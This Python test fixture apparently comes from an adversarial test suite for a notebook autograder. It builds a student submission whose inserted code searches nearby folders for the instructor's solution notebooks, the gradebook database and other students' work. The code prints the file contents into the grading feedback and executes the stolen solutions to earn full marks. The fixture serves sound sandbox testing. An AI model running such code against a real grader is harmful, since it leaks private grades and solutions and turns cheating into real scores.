"""Reading source/ and gradebook.db from the course folder. The kernel looks for the instructor's
notebook (with solutions and hidden tests) and the gradebook beside its own folder and in the
repository that holds `utils`, prints what it finds (exfiltration into the output, hence into
feedback), and runs the solutions it read, which would earn every point."""

from tests.adversarial.harness import insert_code

ASSIGNMENT = "01_norm_layers"
STATUSES = {"graded"}
HONEST_CELLS = set()

CODE = r'''
import glob, json, os
import utils
here = os.getcwd()
roots = {os.path.abspath(os.path.join(here, *[".."] * n)) for n in range(1, 5)}
roots.add(os.path.dirname(os.path.dirname(os.path.abspath(utils.__file__))))
found = []
for root in sorted(roots):
    for pattern in ("source/*/*.ipynb", "gradebook.db", "nbgrader_config.py", "submitted/*/*/*.ipynb",
                    "autograded/*/*/*.ipynb", "release/*/*.ipynb"):
        for path in glob.glob(os.path.join(root, pattern)):
            if os.path.abspath(path).startswith(here):
                continue
            try:
                with open(path, "rb") as handle:
                    data = handle.read()
            except OSError as error:
                print("cannot read", path, error.strerror)
                continue
            found.append(path)
            print("EXFILTRATED", path, data[:4000])
            if path.endswith(".ipynb") and "/source/" in path:
                for cell in json.loads(data)["cells"]:
                    text = "".join(cell["source"])
                    if "BEGIN SOLUTION" in text:
                        exec(text, globals())
print("files read:", len(found))
'''


def build(release, source):
    return insert_code(release, 2, CODE)
